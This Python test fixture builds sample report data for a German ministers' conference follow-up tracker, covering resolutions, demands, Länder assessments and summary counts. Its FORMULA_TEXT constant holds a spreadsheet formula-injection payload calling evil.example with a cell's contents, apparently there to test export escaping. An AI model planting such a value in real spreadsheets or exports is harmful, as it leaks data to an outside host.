"""A report's data built by hand: the Erfolgskontrolle der 19. IntMK as the secretariat of
Niedersachsen would present it in 2025. Schema-complete, and rich enough for every renderer:
demands with and without assessment, contributions, a chain, links, a dissent note, a comment,
formula-like texts, umlauts and a line break inside a Sachstand."""

from erfolgskontrolle.report.schema import (
    SCHEMA_VERSION,
    Breakdown,
    EntryData,
    ReportData,
    Share,
)

FORMULA_TEXT = '=HYPERLINK("http://evil.example/?d="&A1;"Klick") – so stand es im Entwurf.'
QUOTED_TEXT = (
    "'+12 % Kursplätze' meldet das BAMF; die Mittel sind im Bundeshaushalt 2025 verstetigt."
)
MULTILINE_TEXT = (
    "Der Bund hat einen Referentenentwurf vorgelegt.\n"
    "Die Länderanhörung läuft bis März 2025; Änderungswünsche der Länder sind übermittelt."
)
CATEGORIES = [
    ("not_begun", "nicht begonnen"),
    ("begun", "begonnen"),
    ("partly_done", "teilweise umgesetzt"),
    ("done", "umgesetzt"),
    ("not_done", "nicht umgesetzt"),
    ("obsolete", "erledigt/überholt"),
    ("none", "ohne Sachstand"),
]


def share(key: str, label: str, count: int, total: int = 4) -> Share:
    return {
        "key": key,
        "label": label,
        "count": count,
        "percent": round(100 * count / total, 1) if total else 0.0,
    }


def breakdown(label: str, **counts: int) -> Breakdown:
    values = [counts.get(key, 0) for key, _ in CATEGORIES]
    return {"label": label, "total": sum(values), "counts": values}


def entry(
    *,
    land: str,
    stance: str,
    implementation: str,
    category: str,
    text: str,
    fact_date: str,
    recorded_at: str,
    on_behalf: bool = False,
    links: list[tuple[str, str]] = (),  # type: ignore[assignment]
) -> EntryData:
    return {
        "land": land,
        "stance": stance,
        "implementation": implementation,
        "category": category,
        "category_label": dict(CATEGORIES)[category],
        "text": text,
        "fact_date": fact_date,
        "recorded_at": recorded_at,
        "on_behalf": on_behalf,
        "links": [{"label": label, "url": url} for label, url in links],
    }


def sample_report() -> ReportData:
    counts = {"done": 1, "begun": 1, "obsolete": 1, "none": 1}
    return {
        "schema": SCHEMA_VERSION,
        "title": "Erfolgskontrolle der 19. IntMK",
        "conference": {
            "number": 19,
            "year": 2024,
            "place": "Rostock-Warnemünde",
            "first_day": "2024-03-20",
            "last_day": "2024-03-21",
            "chair": "Mecklenburg-Vorpommern",
            "motto": "Miteinander wachsen",
        },
        "compiler": {
            "land": "Niedersachsen",
            "year": 2025,
            "label": "Geschäftsstelle der IntMK, Vorsitz Niedersachsen 2025",
        },
        "as_of": "2025-03-14T09:30:00+01:00",
        "edition": 2,
        "frozen_by": "Sina Sekretariat",
        "preface": (
            "Die Erfolgskontrolle gibt den Sachstand der Beschlüsse der 19. IntMK wieder.\n\n"
            "Grundlage sind die Meldungen der federführenden Länder bis zum 28.02.2025."
        ),
        "round": {
            "title": "Berichtsrunde 2025",
            "opened_at": "2025-01-06T08:00:00+01:00",
            "deadline": "2025-02-28",
            "closed_at": None,
        },
        "summary": {
            "total": 4,
            "by_category": [share(key, label, counts.get(key, 0)) for key, label in CATEGORIES],
            "by_stance": [
                share("zugestimmt", "zugestimmt", 2),
                share("in Prüfung", "in Prüfung", 1),
                share("abgelehnt", "abgelehnt", 0),
                share("none", "ohne Sachstand", 1),
            ],
            "by_addressee": [
                breakdown("Bund", done=1, begun=1, none=1),
                breakdown("BAMF", obsolete=1),
            ],
            "by_group": [
                breakdown("TOP 2 Leitantrag", done=1),
                breakdown("TOP 3 Themen", begun=1, obsolete=1, none=1),
            ],
            "by_lead": [
                breakdown("Berlin", begun=1, none=1),
                breakdown("Hessen", obsolete=1),
                breakdown("Mecklenburg-Vorpommern", done=1),
            ],
            "without_entry": [{"id": 104, "fundstelle": "TOP 3.3 Ziffer 4 (Zeilen 20–22)"}],
            "overdue_lands": [{"land": "Berlin", "open": 1, "total": 2}],
        },
        "changes": {
            "since": "2025-02-03T11:00:00+01:00",
            "since_label": "seit Ausgabe 1 vom 03.02.2025",
            "moved": [
                {
                    "demand": {"id": 102, "fundstelle": "TOP 3.3 Ziffer 3 (Zeilen 12–15)"},
                    "axis": "Umsetzung",
                    "before": "offen",
                    "now": "in Umsetzung",
                },
                {
                    "demand": {"id": 101, "fundstelle": "TOP 2.1 Ziffer 2 (Zeilen 5–7)"},
                    "axis": "Haltung",
                    "before": "",
                    "now": "zugestimmt",
                },
            ],
            "new_entries": [
                {
                    "demand": {"id": 102, "fundstelle": "TOP 3.3 Ziffer 3 (Zeilen 12–15)"},
                    "land": "Berlin",
                    "recorded_at": "2025-02-20T14:05:00+01:00",
                    "implementation": "in Umsetzung",
                    "stance": "zugestimmt",
                }
            ],
            "newly_overdue": [{"land": "Berlin", "open": 1, "total": 2}],
        },
        "resolutions": [
            {
                "top": "2.1",
                "title": "Leitantrag: Integration gemeinsam gestalten",
                "group": "TOP 2 Leitantrag",
                "applicants": ["Mecklenburg-Vorpommern", "Alle Länder"],
                "lead": "Mecklenburg-Vorpommern",
                "vote": "einstimmig",
                "consent_list": False,
                "dissent_notes": [],
                "comment": "",
                "url": "/konferenzen/19/top/2.1/",
                "demands": [
                    {
                        "id": 101,
                        "clause_number": "2",
                        "lines": "5–7",
                        "fundstelle": "TOP 2.1 Ziffer 2 (Zeilen 5–7)",
                        "kind": "Forderung",
                        "addressee": "Bund",
                        "level": "Bund",
                        "wording": "fordert den Bund auf, die Integrationskurse dauerhaft "
                        "auskömmlich zu finanzieren",
                        "assessment": entry(
                            land="Mecklenburg-Vorpommern",
                            stance="zugestimmt",
                            implementation="umgesetzt",
                            category="done",
                            text=QUOTED_TEXT,
                            fact_date="2025-01-15",
                            recorded_at="2025-01-16T10:00:00+01:00",
                            links=[
                                (
                                    "Bundeshaushalt 2025, Einzelplan 06",
                                    "https://example.org/haushalt",
                                ),
                            ],
                        ),
                        "contributions": [],
                        "open_since": None,
                    }
                ],
            },
            {
                "top": "3.3",
                "title": "Gesellschaftliche Teilhabe durch Arbeitsmarktintegration stärken",
                "group": "TOP 3 Themen",
                "applicants": ["Berlin", "Bremen", "Hamburg"],
                "lead": "Berlin",
                "vote": "mehrheitlich",
                "consent_list": False,
                "dissent_notes": [
                    {"land": "Bayern", "text": "Bayern trägt Ziffer 3 nicht mit."},
                ],
                "comment": "Die Geschäftsstelle weist auf den Zusammenhang mit TOP 3.7 hin.",
                "url": "/konferenzen/19/top/3.3/",
                "demands": [
                    {
                        "id": 102,
                        "clause_number": "3",
                        "lines": "12–15",
                        "fundstelle": "TOP 3.3 Ziffer 3 (Zeilen 12–15)",
                        "kind": "Prüfbitte",
                        "addressee": "Bund",
                        "level": "Bund",
                        "wording": "bittet den Bund zu prüfen, ob die Anerkennung ausländischer "
                        "Berufsabschlüsse beschleunigt werden kann",
                        "assessment": entry(
                            land="Berlin",
                            stance="zugestimmt",
                            implementation="in Umsetzung",
                            category="begun",
                            text=MULTILINE_TEXT,
                            fact_date="2025-02-20",
                            recorded_at="2025-02-20T14:05:00+01:00",
                            on_behalf=True,
                            links=[
                                ("Referentenentwurf BMBF", "https://example.org/entwurf"),
                                ("Pressemitteilung Berlin", "https://example.org/presse?id=1&x=ä"),
                            ],
                        ),
                        "contributions": [
                            entry(
                                land="Bremen",
                                stance="zugestimmt",
                                implementation="teilweise umgesetzt",
                                category="partly_done",
                                text="Bremen hat die Anerkennungsberatung um drei Stellen "
                                "aufgestockt.",
                                fact_date="2025-02-10",
                                recorded_at="2025-02-11T09:00:00+01:00",
                            ),
                            entry(
                                land="Hamburg",
                                stance="in Prüfung",
                                implementation="offen",
                                category="not_begun",
                                text="Hamburg prüft eine Übertragung auf die Landesebene.",
                                fact_date="2025-02-12",
                                recorded_at="2025-02-12T16:45:00+01:00",
                                links=[("Senatsdrucksache 23/456", "https://example.org/hh")],
                            ),
                        ],
                        "open_since": {"number": 16, "year": 2021},
                    },
                    {
                        "id": 104,
                        "clause_number": "4",
                        "lines": "20–22",
                        "fundstelle": "TOP 3.3 Ziffer 4 (Zeilen 20–22)",
                        "kind": "Forderung",
                        "addressee": "Bund",
                        "level": "Bund",
                        "wording": "fordert die Bundesregierung auf, Sprachkitas für "
                        "geflüchtete Kinder zu öffnen",
                        "assessment": None,
                        "contributions": [],
                        "open_since": None,
                    },
                ],
            },
            {
                "top": "3.7",
                "title": "Beratungsstrukturen für Zugewanderte sichern",
                "group": "TOP 3 Themen",
                "applicants": ["Hessen", "Saarland"],
                "lead": "Hessen",
                "vote": "einstimmig",
                "consent_list": True,
                "dissent_notes": [],
                "comment": "",
                "url": "/konferenzen/19/top/3.7/",
                "demands": [
                    {
                        "id": 105,
                        "clause_number": "",
                        "lines": "",
                        "fundstelle": "TOP 3.7",
                        "kind": "Bitte",
                        "addressee": "BAMF",
                        "level": "Bund",
                        "wording": "bittet das BAMF, die Migrationsberatung für Erwachsene "
                        "fortzuführen",
                        "assessment": entry(
                            land="Hessen",
                            stance="in Prüfung",
                            implementation="erledigt/überholt",
                            category="obsolete",
                            text=FORMULA_TEXT,
                            fact_date="2025-01-30",
                            recorded_at="2025-01-30T12:00:00+01:00",
                        ),
                        "contributions": [],
                        "open_since": None,
                    }
                ],
            },
        ],
    }


def empty_report() -> ReportData:
    """A conference without followed-up demands, without a round, without an edition."""
    data = sample_report()
    data["conference"] = {
        "number": 20,
        "year": 2025,
        "place": "",
        "first_day": None,
        "last_day": None,
        "chair": "",
        "motto": "",
    }
    data["title"] = "Erfolgskontrolle der 20. IntMK"
    data["edition"] = None
    data["frozen_by"] = None
    data["preface"] = ""
    data["round"] = None
    data["summary"] = {
        "total": 0,
        "by_category": [share(key, label, 0, total=0) for key, label in CATEGORIES],
        "by_stance": [share("none", "ohne Sachstand", 0, total=0)],
        "by_addressee": [],
        "by_group": [],
        "by_lead": [],
        "without_entry": [],
        "overdue_lands": [],
    }
    data["changes"] = {
        "since": None,
        "since_label": "",
        "moved": [],
        "new_entries": [],
        "newly_overdue": [],
    }
    data["resolutions"] = []
    return data
